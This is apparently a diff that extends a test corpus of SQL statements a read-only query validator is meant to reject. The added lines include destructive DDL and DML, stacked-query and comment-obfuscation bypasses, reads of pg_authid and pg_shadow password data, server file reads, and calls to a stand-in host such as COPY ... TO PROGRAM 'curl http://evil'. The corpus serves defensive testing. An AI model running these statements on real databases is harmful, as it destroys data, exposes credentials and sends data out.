@@ -347,3 +347,326 @@ SELECT j.evil FROM jsonb_array_elements('[]') j
 SELECT (row(1)).pg_sleep
 SELECT r.pg_sleep FROM ROWS FROM (abs(5)) r
 SELECT (SELECT g.evil) FROM generate_series(1, 2) g
+## A second opinion
+DELETE FROM users
+delete from users where 1=1
+UPDATE users SET role='admin' WHERE id=5
+INSERT INTO users (name) VALUES ('x')
+INSERT INTO a SELECT * FROM b
+INSERT INTO t DEFAULT VALUES
+DROP TABLE IF EXISTS users
+DROP VIEW v
+DROP INDEX i
+TRUNCATE TABLE users
+ALTER TABLE users ADD COLUMN x INT
+ALTER TABLE users DROP COLUMN x
+ALTER TABLE users RENAME TO u2
+CREATE TABLE x (id INT)
+CREATE TABLE x AS SELECT * FROM users
+CREATE TEMPORARY TABLE x AS SELECT 1
+CREATE INDEX i ON t (a)
+CREATE UNIQUE INDEX i ON t (a)
+CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END
+SELECT 1; DROP TABLE users
+SELECT 1; DELETE FROM users; --
+SELECT 1;\tDELETE FROM users
+;DELETE FROM users
+SELECT 1; SELECT 2
+SELECT 1 /* x */; /* y */ UPDATE t SET a = 1
+BEGIN; DELETE FROM t; COMMIT
+COMMIT; DELETE FROM t
+SAVEPOINT s
+RELEASE SAVEPOINT s
+EXPLAIN ANALYZE UPDATE users SET a = 1
+EXPLAIN INSERT INTO t VALUES (1)
+GRANT ALL ON users TO public
+GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'
+REVOKE SELECT ON users FROM bob
+CREATE USER x
+CREATE ROLE x SUPERUSER
+DROP USER x
+ALTER USER postgres PASSWORD 'x'
+CREATE DATABASE x
+DROP DATABASE x
+CREATE SCHEMA x
+DROP SCHEMA public CASCADE
+SET x = 1
+SET ROLE admin
+WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
+WITH x AS (SELECT 1) UPDATE t SET a = 1
+WITH RECURSIVE c AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM c)
+REPLACE INTO t VALUES (1)
+MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
+REINDEX
+REINDEX TABLE t
+/* c */ DELETE FROM users
+/**/DELETE/**/FROM/**/users
+(DELETE FROM users)
+DE/**/LETE FROM users
+SELECT 1 UNION DELETE FROM users
+SELECT * FROM (DELETE FROM users RETURNING *) x
+SELECT * FROM users WHERE id = (DELETE FROM users RETURNING id)
+DELETE FROM users RETURNING *
+UPDATE t SET a = 1 RETURNING *
+INSERT INTO t VALUES (1) RETURNING *
+INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING
+dElEtE fRoM users
+CALL proc()
+EXECUTE stmt
+PREPARE s AS DELETE FROM t
+DEALLOCATE s
+LOCK TABLE t
+USE mysql
+KILL 1
+SHUTDOWN
+COPY t TO '/tmp/x'
+LOAD DATA INFILE '/etc/passwd' INTO TABLE t
+EXEC xp_cmdshell 'dir'
+DECLARE x INT
+DO 1
+HANDLER t OPEN
+COMMENT ON TABLE t IS 'x'
+RENAME TABLE a TO b
+SELECT * INTO newt FROM users
+SELECT a INTO b FROM c
+ATTACH DATABASE 'x' AS y
+DETACH DATABASE y
+SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
+SELECT * FROM users FOR KEY SHARE NOWAIT
+WITH a AS (SELECT * FROM t FOR UPDATE) SELECT * FROM a
+SELECT EXISTS (SELECT 1 FROM t FOR UPDATE)
+WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
+WITH i AS (INSERT INTO t VALUES (1) RETURNING *), x AS (SELECT 1) SELECT * FROM x
+WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u
+SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) x
+EXPLAIN ANALYZE WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
+EXPLAIN (ANALYZE) DELETE FROM t
+EXPLAIN (ANALYZE true, FORMAT json) INSERT INTO t VALUES (1)
+EXPLAIN EXECUTE s
+EXPLAIN ANALYZE SELECT * INTO x FROM t
+EXPLAIN (ANALYZE) SELECT pg_sleep(10)
+EXPLAIN DECLARE c CURSOR FOR SELECT 1
+SELECT * INTO TEMP t2 FROM t
+SELECT * INTO UNLOGGED TABLE t2 FROM t
+SELECT 1 INTO x
+WITH a AS (SELECT 1) SELECT * INTO b FROM a
+CREATE TABLE IF NOT EXISTS x AS TABLE t
+CREATE MATERIALIZED VIEW m AS SELECT 1
+REFRESH MATERIALIZED VIEW m
+CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from t returning 1'
+DO $$ BEGIN DELETE FROM t; END $$
+DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(10); END $x$
+COPY users TO '/tmp/x.csv'
+COPY users FROM '/tmp/x.csv'
+COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil'
+COPY t FROM PROGRAM 'id'
+COPY (DELETE FROM t RETURNING *) TO STDOUT
+LISTEN ch
+NOTIFY ch, 'x'
+SET search_path TO evil
+SET statement_timeout TO 0
+SET TIME ZONE 'UTC'
+SET CONSTRAINTS ALL DEFERRED
+BEGIN READ WRITE
+LOCK TABLE users IN ACCESS EXCLUSIVE MODE
+DECLARE c CURSOR FOR SELECT * FROM t
+FETCH ALL FROM c
+CLUSTER t
+VACUUM FULL t
+ANALYZE VERBOSE t
+REINDEX INDEX i
+DROP OWNED BY a
+SECURITY LABEL ON TABLE t IS 'x'
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
+CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM x
+ALTER SYSTEM SET x = 1
+ALTER ROLE x SET search_path = y
+ALTER TABLE t DISABLE TRIGGER ALL
+CREATE PUBLICATION p FOR ALL TABLES
+CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
+LOAD 'evil.so'
+SELECT rolname, rolpassword FROM pg_authid
+SELECT usename, passwd FROM pg_shadow
+SELECT passwd FROM pg_catalog.pg_shadow
+SELECT * FROM "pg_authid"
+SELECT * FROM pg_catalog."pg_authid"
+SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)
+SELECT a FROM pg_authid AS t(a)
+SELECT umoptions FROM pg_catalog.pg_user_mappings
+SELECT * FROM pg_stats
+SELECT most_common_vals FROM pg_catalog.pg_stats WHERE tablename = 'users'
+SELECT stavalues1 FROM pg_statistic
+SELECT srvoptions FROM pg_foreign_server
+SELECT * FROM information_schema.foreign_server_options
+SELECT pg_authid FROM pg_authid
+SELECT * FROM ONLY pg_authid
+SELECT * FROM pg_authid*
+SELECT p.* FROM pg_class c, LATERAL (SELECT * FROM pg_authid) p
+SELECT 'pg_authid'::regclass, (xpath('//x', table_to_xml('pg_authid', true, false, '')))
+SELECT table_to_xml('users', true, false, '')
+SELECT query_to_xml('delete from t returning 1', true, false, '')
+SELECT cursor_to_xml('c', 1, true, false, '')
+SELECT query_to_xml_and_xmlschema('select 1', true, false, '')
+SELECT * FROM ts_stat('delete from t')
+SELECT ts_rewrite('a'::tsquery, 'select 1')
+SELECT U&"\0070g_sleep"(10)
+SELECT U&"!0070g_sleep" UESCAPE '!' (10)
+SELECT pg_catalog."pg_sleep"(10)
+SELECT pg_catalog . pg_sleep /* */ (10)
+SELECT Pg_SlEeP(10)
+SELECT (5).pg_sleep
+SELECT x.pg_sleep FROM pg_sleep(5) x
+SELECT t.lo_unlink FROM (SELECT 5::oid) t
+SELECT f.nextval FROM (SELECT 's'::regclass) f
+SELECT u.to_jsonb, u.set_config FROM users u
+SELECT evil()
+SELECT public.evil()
+SELECT * FROM public.evil(1)
+SELECT a FROM t WHERE public.evil(a)
+CREATE TYPE x AS (a int)
+CREATE DOMAIN d AS int CHECK (pg_sleep(1) IS NULL)
+CREATE CAST (int AS text) WITH FUNCTION f(int)
+SELECT count(*) FROM generate_series(1, 10), pg_sleep(1)
+SELECT sum(pg_sleep(1)::text::int) OVER () FROM t
+SELECT * FROM t ORDER BY pg_sleep(1)
+SELECT * FROM t GROUP BY pg_sleep(1)
+SELECT * FROM t LIMIT (SELECT 1 FROM pg_sleep(5))
+SELECT * FROM t OFFSET (SELECT 1 FROM pg_sleep(5))
+SELECT * FROM t FETCH FIRST (SELECT nextval('s')) ROWS ONLY
+SELECT * FROM t TABLESAMPLE BERNOULLI (nextval('s'))
+SELECT * FROM t TABLESAMPLE SYSTEM (50) REPEATABLE (nextval('s'))
+SELECT percentile_cont(nextval('s')) WITHIN GROUP (ORDER BY a) FROM t
+SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM t
+SELECT array_agg(a ORDER BY nextval('s')) FROM t
+SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t
+SELECT sum(a) OVER (PARTITION BY nextval('s')) FROM t
+SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY nextval('s'))
+SELECT sum(a) OVER (ORDER BY b ROWS nextval('s') PRECEDING) FROM t
+SELECT ARRAY[nextval('s')], (ARRAY[1])[nextval('s')], ROW(nextval('s'))
+SELECT CASE WHEN true THEN nextval('s') END
+SELECT CAST(nextval('s') AS text)
+SELECT a FROM t JOIN u ON nextval('s') > 0
+VALUES (nextval('s'))
+SELECT DISTINCT ON (nextval('s')) a FROM t
+SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) x
+SELECT * FROM XMLTABLE('/a' PASSING query_to_xml('x', true, true, '') COLUMNS a int PATH 'a')
+SELECT * FROM XMLTABLE('/a' PASSING x COLUMNS a int PATH 'a' DEFAULT nextval('s'))
+SELECT interval '1' * nextval('s')
+SELECT extract(epoch FROM now()) + nextval('s')
+SELECT xmlelement(name a, xmlattributes(nextval('s') AS b))
+SELECT xmlforest(nextval('s') AS a)
+SELECT * FROM t GROUP BY ROLLUP (nextval('s'))
+SELECT COALESCE(1, nextval('s')), GREATEST(nextval('s'), 1), NULLIF(nextval('s'), 1)
+SELECT substring('abc' FROM nextval('s')::int), overlay('abc' PLACING 'x' FROM nextval('s')::int), position('x' IN nextval('s')::text), trim(nextval('s')::text FROM 'x')
+SELECT now() AT TIME ZONE nextval('s')::text
+SELECT 'a' LIKE 'b' ESCAPE nextval('s')::text
+SELECT a COLLATE "C" FROM t ORDER BY nextval('s') USING <
+SELECT nextval('s') BETWEEN 1 AND 2, 1 IN (nextval('s')), 1 = ANY(ARRAY[nextval('s')])
+SELECT jsonb_path_query('{}', '$', vars => nextval('s')::text::jsonb)
+SELECT make_interval(days => nextval('s')::int)
+SELECT concat(VARIADIC ARRAY[nextval('s')::text])
+SELECT dblink('host=evil', 'select 1')
+SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
+SELECT dblink_exec('dbname=x', 'delete from t')
+SELECT dblink_connect('x')
+SELECT lastval()
+SELECT set_config('role', 'postgres', false)
+SELECT pg_advisory_xact_lock(1)
+SELECT pg_terminate_backend(1)
+SELECT * FROM pg_ls_waldir()
+SELECT loread(lo_open(1, 262144), 100)
+SELECT pg_sleep(1)
+SELECT pg_sleep_for('1 minute')
+SELECT pg_create_logical_replication_slot('a', 'b')
+SELECT pg_drop_replication_slot('a')
+SELECT pg_logical_slot_get_changes('a', null, null)
+SELECT pg_stat_reset_shared('bgwriter')
+SELECT pg_stat_statements_reset()
+SELECT pg_wal_replay_pause()
+SELECT pg_backup_start('x')
+SELECT pg_start_backup('x')
+SELECT pg_nextoid('pg_class', 'oid', 'i')
+SELECT setseed(0.1)
+SELECT gin_clean_pending_list('i')
+SELECT brin_summarize_new_values('i')
+SELECT pg_extension_config_dump('x', '')
+SELECT binary_upgrade_set_next_pg_type_oid(1)
+SELECT pg_prewarm('t')
+SELECT pg_file_write('x', 'y', false)
+SELECT adminpack.pg_file_unlink('x')
+SELECT crosstab('delete from t')
+SELECT * FROM connectby('t', 'a', 'b', 'c', 0) AS t(a int)
+SELECT plpgsql_call_handler()
+SELECT has_table_privilege('x', 'y', nextval('s')::text)
+SELECT get_raw_page('t', 0)
+SELECT * FROM heap_page_items(get_raw_page('t', 0))
+SELECT pgp_sym_decrypt(a, 'k') FROM t
+SELECT http_get('http://evil')
+SELECT net.http_post('http://evil')
+SELECT * FROM postgres_fdw_get_connections()
+SELECT postgres_fdw_disconnect_all()
+SELECT cron.schedule('* * * * *', 'delete from t')
+SELECT amcheck.bt_index_check('i')
+SELECT pg_notification_queue_usage(), lo_creat(-1)
+SELECT currval('s'), nextval('s')
+SELECT pg_get_viewdef(nextval('s')::oid)
+SHOW hba_file; DELETE FROM t
+SHOW is_superuser; SELECT 1
+SELECT $$a$$; DELETE FROM t WHERE b = $$c$$
+SELECT 'a\'; DELETE FROM t; --'
+SELECT E'a\'b'; DELETE FROM t; --'
+SELECT /* /* nested */ */ 1; DELETE FROM t
+SELECT 1 /* /* */ ; DELETE FROM t -- */ */ ; DELETE FROM t
+SELECT $a$ $b$ $a$; DELETE FROM t; --$b$
+SELECT pg_stat_get_activity(null), pg_show_all_file_settings()
+SELECT pg_hba_file_rules()
+SELECT * FROM pg_get_publication_tables('x'), pg_stat_get_wal_receiver(), pg_read_server_files('x')
+SELECT current_setting('x'), set_config('x', 'y', true)
+SELECT pg_partition_root('x'), pg_relation_filenode('x'), pg_truncate_visibility_map('x')
+SELECT pg_rotate_logfile_v2(), pg_copy_physical_replication_slot('a', 'b')
+SELECT pg_stat_clear_snapshot(), pg_stat_force_next_flush()
+SELECT pg_current_wal_insert_lsn(), pg_stat_reset_slru('x')
+SELECT * FROM t WHERE current_user = (SELECT usename FROM pg_shadow LIMIT 1)
+SELECT * FROM t WHERE x = pg_read_file($1)
+MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)
+VALUES (1) UNION ALL SELECT pg_sleep(10)::text::int
+SELECT pg_get_expr('x', 0), lo_truncate(1, 1)
+SELECT getpgusername(), pg_read_file('x', 0, 1)
+SELECT convert_from(pg_read_binary_file('x'), 'UTF8')
+SELECT * FROM pg_logdir_ls() AS x(a timestamp, b text)
+SELECT * FROM pg_stat_statements, pg_shadow
+SELECT inet_client_addr(), dblink_get_pkey('x')
+ALTER TABLE users ENABLE ROW LEVEL SECURITY
+DROP FUNCTION f
+DROP POLICY p ON t
+CREATE POLICY p ON t USING (true)
+ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO x
+ALTER DATABASE x SET y = z
+CREATE TABLESPACE x LOCATION '/tmp'
+CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
+CREATE AGGREGATE a(int) (sfunc = f, stype = int)
+CREATE OPERATOR + (procedure = f)
+CREATE LANGUAGE plpython3u
+SELECT a OPERATOR(public.+) b FROM t
+SELECT a OPERATOR("pg_catalog".+) pg_sleep(1) FROM t
+SELECT a OPERATOR(pg_catalog.+) pg_sleep(1) FROM t
+SELECT a <<= pg_sleep(1)::text::inet FROM t
+SELECT @-@ pg_sleep(1)::text::path
+SELECT json_object(pg_read_file('x')::text[])
+SELECT xmlparse(content pg_read_file('x'))
+SELECT xmlserialize(content query_to_xml('x', true, true, '') AS text)
+SELECT a FROM t JOIN u USING (id) AS pg_sleep(5)
+SELECT xmlexists('//a' PASSING BY REF query_to_xml('x', true, true, ''))
+SELECT xmlroot(query_to_xml('x', true, true, ''), version pg_read_file('x'))
+SELECT f(data->pg_read_file('x')) FROM t
+SELECT jsonb_typeof(data->pg_read_file('x')) FROM t
+SELECT jsonb_typeof(rolpassword->'x') FROM pg_authid
+SELECT box 'x'; DELETE FROM t
+SELECT 1 <@ pg_sleep(1)
+SELECT pg_sleep 'x'
+SELECT regclass 'pg_authid', (xpath('x', y))[1] FROM pg_shadow
+SELECT $1.pg_sleep
+SELECT ($1).pg_sleep
+SELECT ($1::float8).evil
+SELECT a.arr[1].pg_sleep FROM a
+SELECT t.x.pg_sleep FROM t
